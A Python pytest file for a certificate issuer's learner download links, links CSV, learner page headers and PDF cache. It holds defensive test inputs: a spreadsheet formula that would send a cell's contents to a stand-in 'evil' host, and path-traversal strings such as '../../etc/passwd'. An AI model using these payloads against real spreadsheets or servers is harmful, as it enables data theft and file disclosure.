"""Learners' download links and page, print options from the settings, and the PDF cache.

Runs on SQLite and PostgreSQL (the ``service`` fixture). Covers: tokens (132 bits, derived and
stable, only their hash stored, regenerated with an audit entry, created later for older
credentials), the links CSV from the console, the API and the CLI (the same bytes), the page
(both languages, status as a verifier sees it, strict headers, revoked and suspended
certificates, a 404 that reveals nothing), every download verifying, the institution's print
options reaching the PDF, and cached PDFs served without rendering.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import re
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from PIL import Image, ImageDraw
from pydantic import ValidationError
from pypdf import PdfReader
from sqlalchemy import update
from sqlmodel import col, select

import issuer.pdf
from issuer import learner_page, printing
from issuer.app import create_app
from issuer.batch_render import render_programme
from issuer.certificate import CertificateRenderError
from issuer.cli import cli
from issuer.db import transaction
from issuer.demo import run_demo
from issuer.download_links import (
    CSV_HEADER,
    REGENERATE_ACTION,
    TOKEN_LENGTH,
    CohortLink,
    RedactLinks,
    cohort_links,
    download_token,
    links_csv,
    redact_link,
    token_hash,
)
from issuer.errors import ServiceError
from issuer.i18n import t
from issuer.issuance import IssuedCredential, issue_programme, reissue
from issuer.keystore import KeyStore, KeyStoreError, Passphrase
from issuer.learner_page import CONTENT_SECURITY_POLICY, STATIC_NAMES
from issuer.link_secret import FILE_NAME, link_secret
from issuer.lookup import find_credential
from issuer.models import AuditEntry, Credential
from issuer.pdf_cache import PDFCache, cache_key
from issuer.public_verifier import verify_own_credential
from issuer.revocation import REVOKE, SUSPEND, change_status
from issuer.service import Service
from issuer.settings import MAX_CERTIFICATE_IMAGE_BYTES, Settings
from verifier.extract import extract

from .conftest import TEST_PASSPHRASE, make_service
from .test_api import token
from .test_console import make_user, post, sign_in
from .test_workflow import CODE, seed

BASE = "https://cert.example.edu.cn"


@pytest.fixture
def issued(service: Service) -> list[IssuedCredential]:
    seed(service)
    return issue_programme(service, CODE, actor="registrar").issued


@pytest.fixture
def client(service: Service) -> Iterator[TestClient]:
    with TestClient(create_app(service=service), base_url=BASE, raise_server_exceptions=False) as test_client:
        yield test_client


def links(service: Service) -> dict[str, CohortLink]:
    return {link.certificate_number: link for link in cohort_links(service, CODE)}


def path(url: str) -> str:
    return urlsplit(url).path


def stored(service: Service, number: str) -> Credential:
    with transaction(service.engine, write=False) as session:
        return find_credential(session, number)


def cli_env(service: Service) -> dict[str, str]:
    settings = service.settings
    return {
        "MICROCRED_DATABASE_URL": settings.database_url,
        "MICROCRED_KEYS_DIR": str(settings.keys_dir),
        "MICROCRED_KEY_PASSPHRASE": TEST_PASSPHRASE,
        "MICROCRED_BASE_URL": settings.base_url,
        "MICROCRED_PDF_CACHE_DIR": str(settings.pdf_cache_dir),
        "MICROCRED_LANG": "en",
    }


# -- tokens ---------------------------------------------------------------------------------------


def test_every_issued_certificate_gets_a_128_bit_link_and_only_its_hash_is_stored(
    service: Service, issued: list[IssuedCredential]
) -> None:
    assert TOKEN_LENGTH * 6 >= 128
    found = links(service)
    tokens = {number: path(link.download_url).removeprefix("/c/") for number, link in found.items()}
    assert len(tokens) == len(issued) == 9
    assert len(set(tokens.values())) == 9
    for number, value in tokens.items():
        assert re.fullmatch(r"[A-Za-z0-9_-]{22}", value), value
        row = stored(service, number)
        assert row.download_link_version == 0
        assert row.download_token_hash == token_hash(value)  # set when it was issued
        assert value not in row.model_dump_json()
    with transaction(service.engine, write=False) as session:
        audit_text = json.dumps([entry.details for entry in session.exec(select(AuditEntry))])
    assert not any(value in audit_text for value in tokens.values())
    # The secret behind the links is a file only its owner can read, and holds no plain secret.
    secret_file = service.settings.keys_dir / FILE_NAME
    assert secret_file.stat().st_mode & 0o777 == 0o600
    secret = link_secret(service.keys)
    assert secret.hex() not in secret_file.read_text()
    # Another secret, another version or another credential: another token.
    first = issued[0].credential_id
    assert download_token(secret, first, 0) == tokens[issued[0].certificate_number]
    assert download_token(secret, first, 1) != download_token(secret, first, 0)
    assert download_token(bytes(32), first, 0) != download_token(secret, first, 0)


def test_links_are_stable_and_another_process_derives_the_same_ones(
    service: Service, issued: list[IssuedCredential], tmp_path: Path
) -> None:
    first = links(service)
    assert links(service) == first
    other = make_service(service.settings.database_url, service.settings.keys_dir)
    try:
        assert links(other) == first
    finally:
        other.close()


def test_the_link_secret_needs_the_passphrase_and_private_permissions(
    service: Service, tmp_path: Path
) -> None:
    link_secret(service.keys)
    wrong = KeyStore(service.settings.keys_dir, Passphrase("a different passphrase"), scrypt_n=2**10)
    with pytest.raises(KeyStoreError) as refused:
        link_secret(wrong)
    assert refused.value.reason == "decryption-failed"
    (service.settings.keys_dir / FILE_NAME).chmod(0o644)
    with pytest.raises(KeyStoreError) as exposed:
        link_secret(KeyStore(service.settings.keys_dir, Passphrase(TEST_PASSPHRASE), scrypt_n=2**10))
    assert exposed.value.reason == "unsafe-permissions"


def test_processes_creating_the_link_secret_at_once_all_get_the_same_one(tmp_path: Path) -> None:
    stores = [KeyStore(tmp_path / "keys", Passphrase(TEST_PASSPHRASE), scrypt_n=2**10) for _ in range(8)]
    start = threading.Barrier(len(stores))
    secrets: list[bytes] = []

    def create(store: KeyStore) -> None:
        start.wait()
        secrets.append(link_secret(store))

    threads = [threading.Thread(target=create, args=(store,)) for store in stores]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(secrets) == 8
    assert len(set(secrets)) == 1
    assert [p.name for p in (tmp_path / "keys").iterdir()] == [FILE_NAME]  # no temporary file left


def test_regenerating_a_link_retires_the_old_one_and_is_audited(
    service: Service, issued: list[IssuedCredential], client: TestClient
) -> None:
    number = issued[0].certificate_number
    old = links(service)[number].download_url
    registrar = token(service, "registrar")
    assert client.get(path(old)).status_code == 200
    refused = client.post(
        f"/api/credentials/{number}/download-link", headers=token(service, "auditor"), json={}
    )
    assert refused.status_code == 403
    no_reason = client.post(f"/api/credentials/{number}/download-link", headers=registrar, json={})
    assert no_reason.status_code == 422
    answer = client.post(
        f"/api/credentials/{number}/download-link",
        headers=registrar,
        json={"reason": "sent to the wrong address"},
    )
    assert answer.status_code == 200, answer.text
    new = answer.json()["downloadUrl"]
    assert new != old
    assert client.get(path(old)).status_code == 404
    assert client.get(path(new)).status_code == 200
    assert (
        client.get(f"/api/credentials/{number}/download-link", headers=registrar).json()["downloadUrl"] == new
    )
    assert links(service)[number].download_url == new
    assert stored(service, number).download_link_version == 1
    with transaction(service.engine, write=False) as session:
        entry = session.exec(select(AuditEntry).where(AuditEntry.action == REGENERATE_ACTION)).one()
    assert entry.subject == number
    assert entry.details["reason"] == "sent to the wrong address"
    assert new.rsplit("/", 1)[1] not in json.dumps(entry.details)
    # The same from the command line.
    result = CliRunner().invoke(
        cli, ["new-link", number, "--reason", "leaked", "--actor", "registrar"], env=cli_env(service)
    )
    assert result.exit_code == 0, result.output
    newest = result.output.strip()
    assert newest.startswith(f"{BASE}/c/")
    assert newest != new
    assert client.get(path(new)).status_code == 404
    assert client.get(path(newest)).status_code == 200


def test_the_console_shows_the_link_to_registrars_and_replaces_it(
    service: Service, issued: list[IssuedCredential], client: TestClient
) -> None:
    number = issued[0].certificate_number
    old = links(service)[number].download_url
    make_user(service, "auditor")
    with TestClient(create_app(service=service), base_url=BASE) as auditor:
        sign_in(auditor, "auditor-all")
        shown = auditor.get(f"/console/credentials/{number}")
        assert shown.status_code == 200
        assert old not in shown.text  # reading a certificate is not handing it out
    make_user(service, "registrar")
    sign_in(client, "registrar-all")
    assert old in client.get(f"/console/credentials/{number}").text
    no_reason = post(client, f"/console/credentials/{number}/download-link", {"reason": ""})
    assert no_reason.status_code == 422
    replaced = post(client, f"/console/credentials/{number}/download-link", {"reason": "发错了邮箱"})
    assert replaced.status_code == 303
    page = client.get(f"/console/credentials/{number}").text
    assert "下载链接已更换" in page
    new = links(service)[number].download_url
    assert new != old
    assert new in page
    assert client.get(path(old)).status_code == 404
    assert client.get(path(new)).status_code == 200


def test_a_credential_issued_before_links_gets_its_link_when_first_exported(
    service: Service, issued: list[IssuedCredential], client: TestClient
) -> None:
    number = issued[0].certificate_number
    expected = links(service)[number].download_url
    with transaction(service.engine) as session:
        session.execute(update(Credential).values(download_token_hash=None))
    assert client.get(path(expected)).status_code == 404  # nobody could hold it yet
    assert links(service)[number].download_url == expected
    assert client.get(path(expected)).status_code == 200


# -- the links CSV ---------------------------------------------------------------------------------


def test_the_links_csv_is_the_same_from_the_console_the_api_and_the_cli(
    service: Service, issued: list[IssuedCredential], client: TestClient, tmp_path: Path
) -> None:
    api = client.get(f"/api/programmes/{CODE}/links.csv", headers=token(service, "registrar"))
    assert api.status_code == 200, api.text
    assert api.headers["content-type"].startswith("text/csv")
    assert api.content.startswith("\ufeff".encode())
    rows = [line.split(",") for line in api.content.decode("utf-8-sig").splitlines()]
    assert tuple(rows[0]) == CSV_HEADER
    assert len(rows) == 10
    assert [row[0] for row in rows[1:]] == sorted(c.certificate_number for c in issued)
    for row in rows[1:]:
        assert row[4].startswith(f"{BASE}/verify#MC1:")
        assert row[5].startswith(f"{BASE}/c/")
    assert (
        client.get(f"/api/programmes/{CODE}/links.csv", headers=token(service, "auditor")).status_code == 403
    )

    make_user(service, "registrar")
    sign_in(client, "registrar-all")
    console = client.get(f"/console/programmes/{CODE}/links.csv")
    assert console.status_code == 200
    assert console.content == api.content

    out = tmp_path / "links.csv"
    result = CliRunner().invoke(cli, ["links", "--programme", CODE, "--out", str(out)], env=cli_env(service))
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == api.content
    unknown = CliRunner().invoke(cli, ["links", "--programme", "NOPE"], env=cli_env(service))
    assert unknown.exit_code == 2
    assert "NOPE" in unknown.output


# -- the page ----------------------------------------------------------------------------------------


def assert_private(response: Any) -> None:
    assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    assert "script-src" not in CONTENT_SECURITY_POLICY  # default-src 'none': no script at all
    assert response.headers["referrer-policy"] == "no-referrer"
    assert response.headers["x-robots-tag"] == "noindex, nofollow"
    assert response.headers["cache-control"] == "private, no-store"
    assert response.headers["x-content-type-options"] == "nosniff"


def test_the_page_shows_the_learner_and_the_status_in_chinese_and_english(
    service: Service, issued: list[IssuedCredential], client: TestClient
) -> None:
    link = links(service)[issued[0].certificate_number]
    page = client.get(path(link.download_url))
    assert page.status_code == 200
    assert_private(page)
    html = page.text
    assert '<html lang="zh-CN">' in html
    assert '<meta name="robots" content="noindex, nofollow">' in html
    assert '<meta name="referrer" content="no-referrer">' in html
    assert "<script" not in html
    assert " style=" not in html
    for shown in (
        "王小明",
        "粉体材料智能制造",
        "示范科技大学",
        'data-status="valid"',
        ">有效<",
        issued[0].certificate_number,
    ):
        assert shown in html, shown
    linkedin = re.search(r'href="(https://www\.linkedin\.com/profile/add\?[^"]+)"', html)
    assert linkedin is not None
    assert "startTask=CERTIFICATION_NAME" in linkedin.group(1)
    assert f"certId={issued[0].certificate_number}" in linkedin.group(1)
    assert "issueYear=" in linkedin.group(1)
    assert "issueMonth=" in linkedin.group(1)
    assert "VC 2.0" in html  # the wallet explanation

    english = client.get(path(link.download_url), params={"lang": "en"}).text
    assert '<html lang="en">' in english
    assert "Wang Xiaoming" in english
    assert ">Valid<" in english
    assert "Add to my LinkedIn profile" in english
    by_header = client.get(path(link.download_url), headers={"Accept-Language": "en-GB,en;q=0.9"}).text
    assert '<html lang="en">' in by_header

    stylesheet = re.search(r'href="(/c/static/download\.css\?v=[0-9a-f]+)"', html)
    assert stylesheet is not None
    css = client.get(stylesheet.group(1))
    assert css.status_code == 200
    assert css.headers["content-type"].startswith("text/css")
    assert client.get("/c/static/../settings.py").status_code == 404


def test_each_download_verifies(service: Service, issued: list[IssuedCredential], client: TestClient) -> None:
    number = issued[0].certificate_number
    base = path(links(service)[number].download_url)
    document = stored(service, number).document

    def download(name: str, media_type: str, filename: str) -> bytes:
        response = client.get(f"{base}/{name}")
        assert response.status_code == 200, name
        assert response.headers["content-type"].startswith(media_type)
        assert response.headers["content-disposition"] == f'attachment; filename="{number}{filename}"'
        assert_private(response)
        return response.content

    as_json = download("credential.json", "application/vc+ld+json", ".json")
    assert as_json == document.encode()
    assert verify_own_credential(service, as_json.decode()).outcome == "valid"
    for name, media_type, filename, source in (
        ("certificate.pdf", "application/pdf", ".pdf", "pdf"),
        ("badge.png", "image/png", "-badge.png", "png"),
        ("badge.svg", "image/svg+xml", "-badge.svg", "svg"),
        ("qr.png", "image/png", "-qr.png", "qr"),
    ):
        found = extract(download(name, media_type, filename), filename=f"x{filename}", read_qr=False).primary
        assert found.source == source, name
        if source != "qr":
            assert found.credential == json.loads(document), name
        assert verify_own_credential(service, found.credential).outcome == "valid", name


def test_revoked_suspended_and_replaced_certificates_say_so(
    service: Service, issued: list[IssuedCredential], client: TestClient
) -> None:
    revoked, suspended, replaced = (c.certificate_number for c in issued[:3])
    before = links(service)
    change_status(service, [revoked], REVOKE, reason="issued in error", actor="registrar")
    change_status(service, [suspended], SUSPEND, reason="under review", actor="registrar")
    replacement = reissue(service, replaced, reason="name corrected", actor="registrar")

    page = client.get(path(before[revoked].download_url)).text
    assert 'data-status="revoked"' in page
    assert "学校已撤销此证书" in page
    assert "linkedin.com" not in page
    assert "certificate.pdf" not in page
    assert "badge.png" not in page
    for name in ("certificate.pdf", "credential.json", "badge.png", "badge.svg", "qr.png"):
        gone = client.get(f"{path(before[revoked].download_url)}/{name}")
        assert gone.status_code == 410, name
        assert_private(gone)

    page = client.get(path(before[suspended].download_url)).text
    assert 'data-status="suspended"' in page
    assert ">已暂停<" in page
    assert "linkedin.com" not in page
    assert "certificate.pdf" in page
    assert client.get(f"{path(before[suspended].download_url)}/credential.json").status_code == 200

    page = client.get(path(before[replaced].download_url)).text
    assert 'data-status="revoked"' in page
    assert "新证书的下载链接" in page
    new_link = links(service)[replacement.certificate_number].download_url
    assert new_link != before[replaced].download_url
    assert 'data-status="valid"' in client.get(path(new_link)).text


def test_unknown_and_malformed_links_get_the_same_plain_404(
    service: Service, issued: list[IssuedCredential], client: TestClient
) -> None:
    real = path(links(service)[issued[0].certificate_number].download_url)
    flipped = real[:-1] + ("A" if real[-1] != "A" else "B")
    answers = [
        client.get(address)
        for address in (
            flipped,
            "/c/" + "A" * TOKEN_LENGTH,
            "/c/short",
            "/c/" + "A" * (TOKEN_LENGTH + 1),
            "/c/a.b",
        )
    ]
    for answer in answers:
        assert answer.status_code == 404
        assert_private(answer)
        assert answer.text == answers[0].text
    assert "链接无效" in answers[0].text
    assert "王小明" not in answers[0].text
    assert issued[0].certificate_number not in answers[0].text
    assert client.get(f"{flipped}/certificate.pdf").status_code == 404
    assert client.get(f"{flipped}/certificate.pdf").text == answers[0].text


def test_the_demo_prints_a_learners_link_and_writes_the_cohorts(
    service: Service, client: TestClient, tmp_path: Path
) -> None:
    report = run_demo(service, tmp_path / "demo")
    assert report.download_link is not None
    page = client.get(path(report.download_link))
    assert page.status_code == 200
    assert 'data-status="valid"' in page.text
    exported = (tmp_path / "demo" / "links.csv").read_text("utf-8-sig")
    assert report.download_link in exported


# -- printing: options from the settings, and the cache ------------------------------------------------


def png_file(folder: Path, name: str, colour: str) -> Path:
    image = Image.new("RGBA", (240, 240), (0, 0, 0, 0))
    ImageDraw.Draw(image).ellipse((8, 8, 232, 232), outline=colour, width=14)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    image.save(path)
    return path


def first_credential(service: Service) -> Credential:
    with transaction(service.engine, write=False) as session:
        return session.exec(select(Credential).order_by(col(Credential.certificate_number))).first()  # type: ignore[return-value]


def pdf_text(pdf: bytes) -> str:
    return re.sub(r"\s+", "", "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages))


def pdf_images(pdf: bytes) -> int:
    return sum(len(page.images) for page in PdfReader(io.BytesIO(pdf)).pages)


def test_print_options_from_the_settings_reach_the_pdf(
    service: Service, issued: list[IssuedCredential], tmp_path: Path
) -> None:
    credential = first_credential(service)
    bilingual = printing.certificate_pdf(service, credential)
    configured = make_service(
        service.settings.database_url,
        service.settings.keys_dir,
        certificate_language="zh",
        certificate_logo=png_file(tmp_path, "logo.png", "#1d3557"),
        certificate_seal=png_file(tmp_path, "seal.png", "#d0201a"),
        certificate_accent="#1F3A68",
    )
    try:
        options = printing.certificate_options(configured.settings)
        assert options.language == "zh"
        assert options.accent == "#1f3a68"
        assert options.logo is not None
        assert options.seal is not None
        assert options.signature is None
        chinese_only = printing.certificate_pdf(configured, credential)
    finally:
        configured.close()
    for english in ("micro-majorcertificate", "wangxiaoming", "scantoverify"):
        assert english in pdf_text(bilingual).lower()
    text = pdf_text(chinese_only)
    assert "微专业证书" in text
    assert "王小明" in text
    for english in ("micro-major", "certificate", "wangxiaoming", "scantoverify", "thisistocertify"):
        assert english not in text.lower()
    assert pdf_images(chinese_only) == pdf_images(bilingual) + 2  # the logo and the seal


def test_bad_certificate_images_are_refused_at_start_up(tmp_path: Path) -> None:
    good = png_file(tmp_path, "seal.png", "#d0201a")
    assert Settings(certificate_seal=good).certificate_seal == good  # type: ignore[call-arg]
    assert Settings(certificate_seal="").certificate_seal is None  # type: ignore[call-arg, arg-type]
    text = tmp_path / "seal.txt"
    text.write_text("not an image")
    huge = tmp_path / "huge.png"
    huge.write_bytes(good.read_bytes() + bytes(MAX_CERTIFICATE_IMAGE_BYTES))
    for value, message in (
        (tmp_path / "missing.png", "does not exist"),
        (text, "is not a PNG, JPEG or SVG file"),
        (huge, "MiB"),
        (tmp_path, "does not exist or is not a file"),
    ):
        with pytest.raises(ValidationError) as refused:
            Settings(certificate_seal=value)  # type: ignore[call-arg]
        assert message in str(refused.value)
        assert str(value) in str(refused.value)
    with pytest.raises(ValidationError, match="#9b1c1c"):
        Settings(certificate_accent="red")  # type: ignore[call-arg]
    with pytest.raises(ValidationError):
        Settings(certificate_language="en")  # type: ignore[call-arg, arg-type]
    assert MAX_CERTIFICATE_IMAGE_BYTES == issuer.pdf.MAX_IMAGE_BYTES


@pytest.fixture
def renders(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every certificate actually rendered in this process (by its QR text)."""
    rendered: list[str] = []
    real: Callable[..., bytes] = issuer.pdf.render_certificate_pdf

    def counting(credential: Any, qr_text: str, options: Any = None) -> bytes:
        rendered.append(qr_text)
        return real(credential, qr_text, options)

    monkeypatch.setattr(issuer.pdf, "render_certificate_pdf", counting)
    return rendered


def test_a_cached_pdf_is_served_again_without_rendering(
    service: Service, issued: list[IssuedCredential], client: TestClient, renders: list[str]
) -> None:
    credential = stored(service, issued[0].certificate_number)
    first = printing.certificate_pdf(service, credential)
    assert len(renders) == 1
    assert printing.certificate_pdf(service, credential) == first
    download = client.get(
        f"{path(links(service)[credential.certificate_number].download_url)}/certificate.pdf"
    )
    assert download.content == first
    console_user = make_user(service, "registrar")
    sign_in(client, console_user)
    assert (
        client.get(f"/console/credentials/{credential.certificate_number}/certificate.pdf").content == first
    )
    assert len(renders) == 1
    cached = list(service.settings.pdf_cache_dir.rglob("*.pdf"))
    assert len(cached) == 1
    assert cached[0].stat().st_mode & 0o077 == 0  # certificates hold personal data

    # A revocation changes nothing printed: still the cached PDF.
    change_status(service, [credential.certificate_number], REVOKE, reason="test", actor="registrar")
    assert printing.certificate_pdf(service, stored(service, credential.certificate_number)) == first
    assert len(renders) == 1

    # Other options print another PDF; no cache renders every time.
    accent = make_service(
        service.settings.database_url, service.settings.keys_dir, certificate_accent="#1f3a68"
    )
    uncached = make_service(service.settings.database_url, service.settings.keys_dir, pdf_cache_max_mb=0)
    try:
        assert printing.certificate_pdf(accent, credential) != first
        assert len(renders) == 2
        printing.certificate_pdf(uncached, credential)
        printing.certificate_pdf(uncached, credential)
        assert len(renders) == 4
    finally:
        accent.close()
        uncached.close()


def test_a_cohort_rendered_by_worker_processes_fills_the_cache(
    service: Service, issued: list[IssuedCredential], renders: list[str], tmp_path: Path
) -> None:
    report = render_programme(service, CODE, tmp_path / "pdfs", workers=2)
    assert len(report.written) == 9
    assert report.failed == []
    credential = stored(service, issued[0].certificate_number)
    assert (
        printing.certificate_pdf(service, credential)
        == (tmp_path / "pdfs" / f"{credential.certificate_number}.pdf").read_bytes()
    )
    assert renders == []  # the workers rendered it, with the same options, into the same cache


def fake_pdf(size: int) -> bytes:
    return b"%PDF-1.7\n" + b"x" * size + b"\n%%EOF\n"


def test_the_pdf_cache_keeps_the_recently_used_within_its_bound(tmp_path: Path) -> None:
    cache = PDFCache(tmp_path / "cache", max_bytes=10_000)
    keys = [cache_key(f"document {n}", "qr", "options", "renderer") for n in range(6)]
    assert len(set(keys)) == 6
    assert all(re.fullmatch(r"[0-9a-f]{64}", key) for key in keys)
    assert cache_key("a", "bc", "o", "r") != cache_key("ab", "c", "o", "r")  # fields cannot run together
    for n, key in enumerate(keys[:4]):
        cache.put(key, fake_pdf(2_000))
        os.utime(cache._path(key), (1_000_000 + n, 1_000_000 + n))  # ages, oldest first
    assert cache.get(keys[0]) == fake_pdf(2_000)  # used again: now the most recent
    cache.put(keys[4], fake_pdf(2_000))
    cache.put(keys[5], fake_pdf(2_000))
    assert cache.size() <= 10_000
    assert cache.get(keys[1]) is None  # the least recently used went first
    assert cache.get(keys[0]) is not None
    assert cache.get(keys[5]) is not None
    # A damaged file is a miss and is removed; a stale temporary file is cleaned up.
    cache._path(keys[5]).write_bytes(b"%PDF-1.7 trunc")
    assert cache.get(keys[5]) is None
    assert not cache._path(keys[5]).exists()
    leftover = cache._path(keys[0]).parent / ".abandoned.tmp"
    leftover.write_bytes(b"x")
    os.utime(leftover, (1, 1))
    cache.evict(10_000)
    assert not leftover.exists()
    with pytest.raises(ValueError, match="hex"):
        cache.get("../../etc/passwd")
    with pytest.raises(ValueError, match="whole PDF"):
        cache.put(keys[0], b"not a pdf")


# -- a lost or different link secret never silently breaks handed-out links ------------------------


def _hashes(service: Service) -> dict[str, str | None]:
    with transaction(service.engine, write=False) as session:
        return {c.certificate_number: c.download_token_hash for c in session.exec(select(Credential))}


def test_a_missing_link_secret_is_an_error_once_links_exist(
    service: Service, issued: list[IssuedCredential], tmp_path: Path
) -> None:
    before = _hashes(service)
    assert all(before.values())
    (service.settings.keys_dir / FILE_NAME).rename(tmp_path / "saved-secret.json")
    fresh = make_service(service.settings.database_url, service.settings.keys_dir)  # nothing cached
    try:
        with pytest.raises(ServiceError) as refused:
            cohort_links(fresh, CODE)
        assert refused.value.status == 503
        assert "restore it from the backup" in str(refused.value.detail.render("en"))
        assert not (service.settings.keys_dir / FILE_NAME).exists()  # no new secret was made
        assert _hashes(fresh) == before
        result = CliRunner().invoke(cli, ["links", "--programme", CODE], env=cli_env(service))
        assert result.exit_code != 0
        assert "restore it from the backup" in result.output
        assert "Traceback" not in result.output
    finally:
        fresh.close()


def test_links_made_with_another_secret_are_refused_not_replaced(
    service: Service, issued: list[IssuedCredential], tmp_path: Path
) -> None:
    before = _hashes(service)
    other_keys = tmp_path / "other-keys"
    link_secret(KeyStore(other_keys, Passphrase(TEST_PASSPHRASE), scrypt_n=2**10))  # another secret
    (other_keys / FILE_NAME).replace(service.settings.keys_dir / FILE_NAME)
    fresh = make_service(service.settings.database_url, service.settings.keys_dir)
    try:
        with pytest.raises(ServiceError) as refused:
            cohort_links(fresh, CODE)
        assert refused.value.status == 409
        assert refused.value.kind == "link-secret-mismatch"
        assert _hashes(fresh) == before
    finally:
        fresh.close()


def test_the_first_secret_is_made_while_no_link_exists(service: Service) -> None:
    seed(service)
    assert not (service.settings.keys_dir / FILE_NAME).exists()
    issue_programme(service, CODE, actor="registrar")
    assert (service.settings.keys_dir / FILE_NAME).stat().st_mode & 0o777 == 0o600


# -- what could leak a link or break a download ----------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text() -> None:
    row = CohortLink("N-1", "+86123", '=HYPERLINK("http://evil/?"&F2,"x")', "valid", "https://v", "https://d")
    text = links_csv([row]).decode("utf-8-sig")
    cells = next(csv.reader(io.StringIO(text.splitlines()[1])))
    assert cells[1] == "'+86123"
    assert cells[2] == '\'=HYPERLINK("http://evil/?"&F2,"x")'
    assert cells[0] == "N-1"  # ordinary text is unchanged


def test_the_cli_writes_the_links_file_for_its_owner_only(
    service: Service, issued: list[IssuedCredential], tmp_path: Path
) -> None:
    out = tmp_path / "links.csv"
    result = CliRunner().invoke(cli, ["links", "--programme", CODE, "--out", str(out)], env=cli_env(service))
    assert result.exit_code == 0, result.output
    assert out.stat().st_mode & 0o777 == 0o600


def test_a_file_that_cannot_be_made_is_a_503_page_and_the_log_never_has_the_link(
    service: Service,
    issued: list[IssuedCredential],
    client: TestClient,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    link = path(links(service)[issued[0].certificate_number].download_url)

    def broken(*_: object) -> bytes:
        raise CertificateRenderError(t("the font is missing"))

    monkeypatch.setattr(learner_page, "certificate_pdf", broken)
    with caplog.at_level(logging.ERROR):
        answer = client.get(f"{link}/certificate.pdf")
    assert answer.status_code == 503
    assert_private(answer)
    assert "暂不可用" in answer.text
    token = link.rsplit("/", 1)[1]
    assert issued[0].certificate_number in caplog.text
    assert token not in caplog.text
    assert client.get(f"{link}/credential.json").status_code == 200  # the other files still come


def test_access_log_lines_mask_the_link() -> None:
    record = logging.LogRecord(
        "uvicorn.access", logging.INFO, __file__, 1, '%s - "%s %s HTTP/%s" %d',
        ("127.0.0.1:5000", "GET", "/c/dWv3z1K5EhKOo4nb-Otrhk/certificate.pdf", "1.1", 200), None,
    )  # fmt: skip
    assert RedactLinks().filter(record)
    assert "dWv3z1K5EhKOo4nb-Otrhk" not in record.getMessage()
    assert "/c/…/certificate.pdf" in record.getMessage()
    assert redact_link("/c/static/download.css?v=1") == "/c/static/download.css?v=1"
    assert redact_link("/verify") == "/verify"


def test_one_link_from_the_api_is_never_cached(
    service: Service, issued: list[IssuedCredential], client: TestClient
) -> None:
    headers = token(service, "registrar")
    number = issued[0].certificate_number
    answer = client.get(f"/api/credentials/{number}/download-link", headers=headers)
    assert answer.status_code == 200, answer.text
    assert answer.headers["cache-control"] == "no-store"
    replaced = client.post(
        f"/api/credentials/{number}/download-link", headers=headers, json={"reason": "leaked"}
    )
    assert replaced.status_code == 200, replaced.text
    assert replaced.headers["cache-control"] == "no-store"


def test_only_the_pages_own_style_sheets_are_served(client: TestClient) -> None:
    assert client.get("/c/static/download.css").status_code == 200
    for name in ("nope.css", "..%2Fapp.py", ".hidden.css", "download.css.map"):
        assert client.get(f"/c/static/{name}").status_code == 404
    assert {"download.css"} == STATIC_NAMES


def test_a_lost_secret_is_recovered_by_a_new_one_and_new_links_for_all(
    service: Service, issued: list[IssuedCredential], client: TestClient, tmp_path: Path
) -> None:
    old = {number: path(link.download_url) for number, link in links(service).items()}
    (service.settings.keys_dir / FILE_NAME).unlink()  # lost, no backup
    env = cli_env(service)
    refused = CliRunner().invoke(cli, ["new-link-secret", "--reason", "secret lost"], env=env, input="n\n")
    assert refused.exit_code != 0  # asked, and said no: nothing changed
    assert not (service.settings.keys_dir / FILE_NAME).exists()
    result = CliRunner().invoke(
        cli, ["new-link-secret", "--reason", "secret lost in a disk failure", "--yes"], env=env
    )
    assert result.exit_code == 0, result.output
    assert f"{len(old)} download link(s) replaced" in result.output
    assert (service.settings.keys_dir / FILE_NAME).stat().st_mode & 0o777 == 0o600
    fresh = make_service(service.settings.database_url, service.settings.keys_dir)
    try:
        new = {number: path(link.download_url) for number, link in links(fresh).items()}
        # The service that was running all along reads the new secret file: no restart.
        assert {number: path(link.download_url) for number, link in links(service).items()} == new
        with TestClient(create_app(service=fresh), base_url=BASE) as fresh_client:
            for number, old_path in old.items():
                assert new[number] != old_path
                assert fresh_client.get(old_path).status_code == 404
            assert fresh_client.get(new[issued[0].certificate_number]).status_code == 200
        with transaction(fresh.engine, write=False) as session:
            entry = session.exec(select(AuditEntry).where(AuditEntry.action == "link-secret.reset")).one()
        assert entry.details["reason"] == "secret lost in a disk failure"
        assert entry.details["links"] == len(old)
        seed_more = issue_programme(fresh, CODE, actor="registrar")  # issuing is not blocked
        assert seed_more.issued == []  # everyone already has a certificate; nothing failed
    finally:
        fresh.close()
